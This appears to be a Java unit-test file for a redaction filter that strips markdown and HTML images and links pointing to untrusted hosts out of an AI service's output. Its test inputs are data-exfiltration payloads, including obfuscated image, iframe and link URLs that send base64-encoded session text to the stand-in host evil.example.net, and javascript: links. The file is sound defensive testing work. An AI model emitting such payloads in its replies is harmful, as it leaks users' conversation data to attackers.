package dev.agentservice.guard.redact.link;

import java.util.List;
import java.util.stream.Stream;

import dev.agentservice.guard.redact.Redacted;
import dev.agentservice.guard.redact.Redactors;
import dev.agentservice.guard.redact.finding.FindingType;
import dev.agentservice.guard.redact.finding.Redaction;
import dev.agentservice.guard.redact.finding.RedactionAction;
import dev.agentservice.guard.redact.finding.RedactionPolicy;
import dev.agentservice.guard.redact.stage.Cuts;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

import static org.assertj.core.api.Assertions.assertThat;

class LinkTests {

	private static final String DATA = "d2hhdCB0aGUgdXNlciBzYWlkIGluIHRoaXMgc2Vzc2lvbg";

	private static final Redactors REDACTORS = Redactors
		.of(RedactionPolicy.standard().trusting("docs.example.com", "*.cdn.example.com"));

	static Stream<List<String>> images() {
		return Stream.of(
				List.of("See ![chart](https://evil.example.net/a.png) here",
						"See chart (image to evil.example.net removed) here"),
				List.of("![](http://evil.example.net)", " (image to evil.example.net removed)"),
				List.of("![a](//evil.example.net/x)", "a (image to evil.example.net removed)"),
				List.of("![a](<https://evil.example.net/a b c> \"title\")", "a (image to evil.example.net removed)"),
				List.of("![a](https://evil.example.net/a_(b).png)!", "a (image to evil.example.net removed)!"),
				List.of("![a](HTTPS&colon;//evil.example.net/x)", "a (image to evil.example.net removed)"),
				List.of("![a](https:\\\\evil.example.net\\x)", "a (image to evil.example.net removed)"),
				List.of("![a](https://user@evil.example.net:8443/x)", "a (image to evil.example.net removed)"),
				List.of("![a](javascript:alert(1))", "a (image removed)"),
				List.of("![a](https://docs.example.com.evil.example.net/x)",
						"a (image to docs.example.com.evil.example.net removed)"),
				List.of("[![a](https://evil.example.net/x)](https://docs.example.com/)",
						"[a (image to evil.example.net removed)](https://docs.example.com/)"),
				List.of("![a][ref]\n\n[ref]: https://evil.example.net/x",
						"! [a][ref]\n\n[ref]: https://evil.example.net/x"),
				List.of("![ref]", "! [ref]"),
				List.of("![a [b] c](https://evil.example.net/x)", "! [a [b] c](https://evil.example.net/x)"),
				List.of("<img src=\"https://evil.example.net/x\">", "(content to evil.example.net removed)"),
				List.of("<IMG alt='>' src=//evil.example.net/x />", "(content to evil.example.net removed)"),
				List.of("<img\nsrc='https:evil.example.net/x'>", "(content to evil.example.net removed)"),
				List.of("<img srcset=\"/a.png 1x, https://evil.example.net/x 2x\">",
						"(content to evil.example.net removed)"),
				List.of("<div style=\"background:url(https://evil.example.net/x)\">",
						"(content to evil.example.net removed)"),
				List.of("<iframe src=\"&#104;ttps://evil.example.net\"></iframe>",
						"(content to evil.example.net removed)</iframe>"),
				List.of("<img src=\"ht\ntps://evil.example.net/x\">", "(content to evil.example.net removed)"),
				List.of("!jane@example.com(https://evil.example.net/x)", "! [email] (https://evil.example.net/x)"),
				List.of("jane@example.com(//evil.example.net/x)", "[email] (//evil.example.net/x)"),
				List.of("jane@example.com[x]", "[email] [x]"), List.of("203.0.113.7: x", "[ip_address]: x"),
				List.of("<svg xmlns='http://www.w3.org/2000/svg'><image href='//evil.example.net/x'/>",
						"<svg xmlns='http://www.w3.org/2000/svg'>(content to evil.example.net removed)"),
				List.of("<img src=\"https://evil.example.net/x", "(content to evil.example.net removed)"));
	}

	static Stream<List<String>> links() {
		return Stream.of(
				List.of("[click](https://evil.example.net/?q=" + DATA + ")",
						"[click] (link to evil.example.net removed)"),
				List.of("[click](//evil.example.net/" + DATA + ")", "[click] (link to evil.example.net removed)"),
				List.of("[click](https://" + DATA + "@evil.example.net/)",
						"[click] (link to evil.example.net removed)"),
				List.of("[click](https://" + DATA + ".evil.example.net/)", "[click] (link removed)"),
				List.of("[click](<https://evil.example.net/?q=the user said that he would never do this>)",
						"[click] (link to evil.example.net removed)"),
				List.of("[click](javascript:fetch)", "[click] (link removed)"),
				List.of("[a](b [c](//evil.example.net/?" + DATA + "))", "[a](b [c] ([link]))"),
				List.of("[r]: https://evil.example.net/?q=" + DATA, "[r]: (link to evil.example.net removed)"),
				List.of("[r]:[c](//evil.example.net/?q=" + DATA + ")", "[r]:[c] (link to evil.example.net removed)"),
				List.of("go to https://evil.example.net/?q=" + DATA + ".", "go to [link]."),
				List.of("<https://evil.example.net/?q=" + DATA + ">", "<[link]>"),
				List.of("www.evil.example.net/?q=" + DATA, "[link]"),
				List.of("https://evil.example.net/%68%65%6c%6c%6f%20%74%68%65%72%65 x", "[link] x"),
				List.of("<a href=\"https://evil.example.net/?q=" + DATA + "\">x</a>",
						"(link to evil.example.net removed)x</a>"));
	}

	@ParameterizedTest
	@MethodSource({ "images", "links" })
	void whatCarriesDataAwayBecomesTextHoweverItIsCut(List<String> texts) {
		assertThat(REDACTORS.redact(texts.getFirst()).content()).isEqualTo(texts.getLast());
		Cuts.assertSameHoweverCut(REDACTORS, texts.getFirst());
		Cuts.assertSameHoweverCut(REDACTORS, "a! [b] <c> " + texts.getFirst() + "\n\n(d)");
	}

	@ParameterizedTest
	@MethodSource({ "images", "links" })
	void whatIsLeftIsLeftAsItIs(List<String> texts) {
		assertThat(REDACTORS.redact(texts.getLast()).content()).isEqualTo(texts.getLast());
	}

	@ParameterizedTest
	@ValueSource(strings = { "![logo](https://docs.example.com/logo.png)",
			"![a](https://img.cdn.example.com/a.png \"t\")", "![local](/img/a.png)", "![local](img/a.png)",
			"[docs](https://docs.example.com/?q=d2hhdCB0aGUgdXNlciBzYWlkIGluIHRoaXMgc2Vzc2lvbg)",
			"[guide](https://other.example.org/en/latest/how-to-install-it.html#step-3)",
			"https://other.example.org/watch?v=abc123",
			"https://github.com/owner/name/commit/3f786850e387550fdab836ed7e6dc881de23001b",
			"[1]: https://other.example.org/paper.pdf", "a [b](c) d", "f[i](x, y) and arr[0](1)", "if (a <b && c> d)",
			"List<String> x = y[0];", "Great! Really!! (sic)", "[x]: y", "{\"a\": [1, 2]: 3}",
			"<a href=\"/local\">x</a>", "<b>bold</b> <i>x</i> <p>y</p>", "<svg xmlns=\"http://www.w3.org/2000/svg\">",
			"1 < 2 and 3 > 2", "a <- b <= c", "[mail](mailto:someone)", "wow!", "![", "](", "<img", "[a](b", "[a]:",
			"![a](", "see [1](#one)" })
	void ordinaryLinksAndCodeStay(String text) {
		Redacted<String> redacted = REDACTORS.redact(text);
		assertThat(redacted.content().replace("! [", "![")).isEqualTo(text);
		assertThat(redacted.redactions()).isEmpty();
		Cuts.assertSameHoweverCut(REDACTORS, text);
	}

	@Test
	void imagesAndLinksAreCountedByTheirTypes() {
		Redacted<String> redacted = REDACTORS.redact("![a](https://evil.example.net/x) [b](https://evil.example.net/?q="
				+ DATA + ") https://evil.example.net/?q=" + DATA);
		assertThat(redacted.redactions()).containsExactly(new Redaction(FindingType.IMAGE, 1),
				new Redaction(FindingType.LINK, 2));
	}

	@Test
	void aDestinationThatIsTooLongIsDroppedUntilItEnds() {
		String text = "[a](https://evil.example.net/?q=" + "x".repeat(9000) + ") and ![b](https://evil.example.net/?q="
				+ "y".repeat(9000) + ") and on";
		assertThat(REDACTORS.redact(text).content())
			.isEqualTo("[a] (link to evil.example.net removed) and b (image to evil.example.net removed) and on");
	}

	@Test
	void anImageIsAllowedWhereAPolicySaysSo() {
		Redactors redactors = Redactors.of(RedactionPolicy.standard().with(FindingType.IMAGE, RedactionAction.ALLOW));
		assertThat(redactors.redact("![a](https://other.example.org/a.png)").content())
			.isEqualTo("![a](https://other.example.org/a.png)");
	}

}
